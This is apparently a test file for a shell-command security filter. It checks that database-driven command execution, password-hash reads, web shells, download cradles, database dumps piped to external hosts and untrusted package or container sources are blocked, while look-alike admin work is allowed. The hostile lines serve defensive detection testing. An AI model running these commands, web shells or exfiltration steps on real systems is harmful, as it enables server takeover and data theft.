/**
 * Application platforms reached from an admin shell (blind round 23): database clients whose query is the payload,
 * web shells, package sources and container registries nobody vetted, CI runners, database dumps sent away — next to
 * the database, web and package work that looks like them.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

const rules = (text: string, shell: Shell) => evaluateLine(text, shell).reasons.map((r) => r.ruleId);

describe('databases', () => {
  it('operating-system code run by the database server is blocked, whichever client sends it', () => {
    for (const [text, shell] of [
      [`Invoke-Sqlcmd -ServerInstance SQL01 -Query "EXEC master..xp_cmdshell 'whoami /all'"`, 'powershell'],
      [
        `sqlcmd -S SQL01 -E -Q "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE"`,
        'cmd',
      ],
      [`$q = "EXEC xp_cmdshell 'net user x P@ss1 /add'"\nInvoke-Sqlcmd -ServerInstance SQL01 -Query $q`, 'powershell'],
      [`psql -U postgres -h 127.0.0.1 -c "COPY (SELECT 1) TO PROGRAM 'id > /tmp/o'"`, 'bash'],
      [
        `sudo -u postgres psql -c "CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/lib.so', 'sys_eval' LANGUAGE C STRICT"`,
        'bash',
      ],
      [`mysql -u root -e "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'"`, 'bash'],
      [`Invoke-Sqlcmd -ServerInstance SQL01 -Query "DECLARE @o INT; EXEC sp_OACreate 'WScript.Shell', @o OUT"`, 'powershell'],
      ['redis-cli MODULE LOAD /tmp/exp.so', 'bash'],
      ['Set-DbaSpConfigure -SqlInstance SQL01 -Name XPCmdShellEnabled -Value 1', 'powershell'],
    ] as const) {
      expect(rules(text, shell), text).toContain('proxy.database');
      expect(decision(text, shell), text).toBe('block');
    }
  });

  it('password hashes read from the server or an application, and system files read through SQL, are blocked', () => {
    for (const [text, shell] of [
      [`sqlcmd -S SQL01 -E -Q "SELECT name, password_hash FROM sys.sql_logins"`, 'cmd'],
      [`sudo -u postgres psql -At -c "SELECT usename || ':' || passwd FROM pg_shadow;"`, 'bash'],
      [`mysql -u root -p -N -e "SELECT user, host, authentication_string FROM mysql.user"`, 'bash'],
      [`Invoke-Sqlcmd -ServerInstance SQL02 -Database Identity -Query "SELECT UserName, PasswordHash FROM dbo.AspNetUsers"`, 'powershell'],
    ] as const)
      expect(rules(text, shell), text).toContain('cred.db-password-hashes');
    expect(rules(`mysql -u root -p -e "SELECT LOAD_FILE('/etc/shadow');"`, 'bash')).toContain('cred.db-file-read');
    expect(rules(`sqlcmd -S SQL01 -E -Q "EXEC master.dbo.xp_dirtree '\\\\193.233.48.12\\share\\x', 1, 1"`, 'cmd')).toContain(
      'cred.forced-authentication',
    );
  });

  it('web shells written by the database, jobs, logins and audits are decided by what they do', () => {
    expect(decision(`mysql -u root -e "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/uploads/c.php'"`, 'bash')).toBe(
      'block',
    );
    expect(decision('redis-cli config set dir /var/www/html && redis-cli config set dbfilename s.php', 'bash')).toBe('block');
    expect(
      rules(
        `sqlcmd -S SQL01 -E -d msdb -Q "EXEC sp_add_job @job_name=N'Nightly'; EXEC sp_add_jobstep @job_name=N'Nightly', @step_name=N's', @command=N'BACKUP DATABASE CRM TO DISK=N''D:\\b.bak'''"`,
        'cmd',
      ),
    ).toContain('persist.db-job');
    const cradleJob = `$cmd = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.upd.net/p.ps1')"\nInvoke-Sqlcmd -ServerInstance SQL01 -Database msdb -Query "EXEC sp_add_job @job_name=N'c'; EXEC sp_add_jobstep @job_name=N'c', @subsystem=N'PowerShell', @command=N'$cmd'"`;
    expect(rules(cradleJob, 'powershell')).toContain('dl.db-job');
    expect(decision(cradleJob, 'powershell')).toBe('block');
    expect(rules(`sqlcmd -S SQL01 -E -Q "ALTER SERVER ROLE [sysadmin] ADD MEMBER [CORP\\t.nguyen]"`, 'cmd')).toContain(
      'persist.db-account',
    );
    expect(rules(`psql -U postgres -c "ALTER ROLE moodle WITH SUPERUSER;"`, 'bash')).toContain('persist.db-account');
    expect(
      rules(`Invoke-Sqlcmd -ServerInstance SQL01 -Query "ALTER SERVER AUDIT [PCI_Audit] WITH (STATE = OFF);"`, 'powershell'),
    ).toContain('evasion.db-audit');
    expect(
      decision(
        `Invoke-Sqlcmd -ServerInstance SQL01 -Query "BACKUP DATABASE [HR] TO DISK = N'\\\\45.134.26.81\\drop\\hr.bak'"`,
        'powershell',
      ),
    ).toBe('block');
  });

  it('ordinary database work stays allowed', () => {
    for (const [text, shell] of [
      [`sqlcmd -S SQL01 -E -Q "SELECT @@VERSION"`, 'cmd'],
      [
        `Invoke-Sqlcmd -ServerInstance SQL01 -Query "SELECT name, value_in_use FROM sys.configurations WHERE name IN ('xp_cmdshell','clr enabled')"`,
        'powershell',
      ],
      [`Invoke-Sqlcmd -ServerInstance CM-SQL01 -Query "EXEC sp_configure 'clr enabled', 1; RECONFIGURE;"`, 'powershell'],
      [
        `Invoke-Sqlcmd -ServerInstance SQL01 -Query "CREATE LOGIN [svc_bi] WITH PASSWORD = N'x'; ALTER ROLE db_datareader ADD MEMBER [svc_bi];"`,
        'powershell',
      ],
      [
        `Invoke-Sqlcmd -ServerInstance SQL01 -Query "BACKUP DATABASE [HR] TO DISK = N'\\\\nas02\\sqlbak\\hr.bak' WITH COMPRESSION"`,
        'powershell',
      ],
      [`mysql -u root -e "SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/orders.csv'"`, 'bash'],
      ['pg_dump -U postgres erp | gzip > /backup/erp-$(date +%F).sql.gz', 'bash'],
      ['mysqldump --all-databases | ssh backup@nas01 "cat > /backups/all.sql"', 'bash'],
      ['redis-cli CONFIG GET dir', 'bash'],
    ] as const)
      expect(decision(text, shell), text).toBe('allow');
  });

  it('a database dump piped to a network tool is blocked', () => {
    expect(rules('mysqldump -u root -p"$PW" --all-databases | nc 185.243.115.40 9001', 'bash')).toContain('exposure.db-dump-sent');
    expect(decision('sudo -u postgres pg_dump erp | gzip -9 | curl --upload-file - https://transfer.sh/erp.sql.gz', 'bash')).toBe('block');
  });
});

describe('web shells', () => {
  it('a server-side script that runs commands, written or downloaded into a web folder, is blocked', () => {
    for (const [text, shell] of [
      [`echo '<?php system($_REQUEST["cmd"]); ?>' | sudo tee /var/www/html/wp-includes/css.php`, 'bash'],
      [
        `Set-Content -Path C:\\inetpub\\wwwroot\\aspnet_client\\help.aspx -Value '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>'`,
        'powershell',
      ],
      [`echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["z"],"unsafe");%^> > "C:\\inetpub\\wwwroot\\owa\\auth\\e.aspx"`, 'cmd'],
      ['iwr http://79.137.195.11/s/err.aspx -OutFile C:\\inetpub\\wwwroot\\aspnet_client\\err.aspx -UseBasicParsing', 'powershell'],
    ] as const) {
      expect(rules(text, shell), text).toContain('persist.webshell');
      expect(decision(text, shell), text).toBe('block');
    }
  });

  it('ordinary pages and configuration written to a web folder stay allowed', () => {
    expect(decision(`echo '<?php phpinfo(); ?>' > /tmp/info.php`, 'bash')).toBe('allow');
    expect(decision(`Set-Content -Path C:\\inetpub\\wwwroot\\index.html -Value '<h1>Maintenance</h1>'`, 'powershell')).toBe('allow');
    expect(decision('curl -o /var/www/html/robots.txt https://cdn.example.org/robots.txt', 'bash')).toBe('allow');
  });
});

describe('package sources, container registries and CI runners', () => {
  it('packages installed from plain HTTP, an internet address or with checks off are blocked', () => {
    expect(decision('npm config set registry http://45.88.67.21:4873/\nnpm install', 'bash')).toBe('block');
    expect(decision('choco source add -n=pkgs -s="http://193.149.176.20/nuget/" && choco install sysupdate -y --source=pkgs', 'cmd')).toBe(
      'block',
    );
    expect(decision('pip install --index-url http://pypi.mirror.top/simple --trusted-host pypi.mirror.top requests', 'bash')).toBe('block');
    expect(
      decision(
        'echo "deb [trusted=yes] http://5.42.92.14/apt stable main" | sudo tee /etc/apt/sources.list.d/u.list\nsudo apt-get update && sudo apt-get install -y helper',
        'bash',
      ),
    ).toBe('block');
    expect(
      decision(
        "Register-PSRepository -Name T -SourceLocation 'http://185.7.1.9/api/v2' -InstallationPolicy Trusted\nInstall-Module Kit -Repository T",
        'powershell',
      ),
    ).toBe('block');
    expect(decision('sudo -u www-data wp plugin install https://wp-plugins-cdn.top/seo.zip --activate --path=/var/www/shop', 'bash')).toBe(
      'block',
    );
  });

  it('public registries, company feeds, signed vendor apt repositories and a source added without installing stay allowed', () => {
    for (const [text, shell] of [
      ['pip install -r requirements.txt', 'bash'],
      ['pip install --index-url https://pypi.org/simple requests', 'bash'],
      ['pip install --extra-index-url https://nexus.corp.local/repository/pypi/simple acme-tools', 'bash'],
      // A company feed on its own domain cannot be told from a look-alike by its name: HTTPS feeds are not judged.
      ['pip install --extra-index-url https://pkgs.acme-tools.com/simple acme-common==1.9.9', 'bash'],
      ['npm config set registry https://registry.npmjs.org/\nnpm ci', 'bash'],
      ['choco source add -n backup -s https://example.com', 'cmd'],
      ['choco install googlechrome -y --source="\\\\fs01\\choco"', 'cmd'],
      [
        'echo "deb [signed-by=/etc/apt/keyrings/grafana.gpg] https://apt.grafana.com stable main" | sudo tee /etc/apt/sources.list.d/grafana.list\nsudo apt-get update && sudo apt-get install -y grafana',
        'bash',
      ],
      ['Install-Module PSWindowsUpdate -Repository PSGallery -Force', 'powershell'],
    ] as const)
      expect(decision(text, shell), text).toBe('allow');
  });

  it('a container image from a registry at an internet IP address is blocked; named registries are not', () => {
    expect(decision('docker run -d --restart always --network host --name kworker 91.208.184.12:5000/sys/kworker:latest', 'bash')).toBe(
      'block',
    );
    expect(decision('kubectl -n kube-system set image ds/kube-proxy kube-proxy=45.9.1.2/kube-proxy:v1.28.4', 'bash')).toBe('block');
    expect(decision('docker run -d --name web -p 8080:80 nginx:1.25', 'bash')).toBe('allow');
    expect(decision('docker pull 10.0.5.20:5000/acme/app:2.1', 'bash')).toBe('allow');
  });

  it('registering the machine as a CI runner of a server is blocked as remote access', () => {
    expect(
      rules(
        'sudo gitlab-runner register --non-interactive --url https://gitlab.ci-mirror.net/ --registration-token GR1348 --executor shell',
        'bash',
      ),
    ).toContain('rmm.ci-runner');
    expect(
      decision(
        'cd C:\\actions-runner\n.\\config.cmd --url https://github.com/devtools-x --token AZQ7 --unattended --runasservice',
        'powershell',
      ),
    ).toBe('block');
    expect(decision('sudo gitlab-runner list', 'bash')).toBe('allow');
  });

  it("SQL Server's PowerShell host unwraps like powershell", () => {
    expect(decision(`sqlps.exe -NoLogo -Command "IEX (New-Object Net.WebClient).DownloadString('http://185.196.8.77/s.ps1')"`, 'cmd')).toBe(
      'block',
    );
  });
});
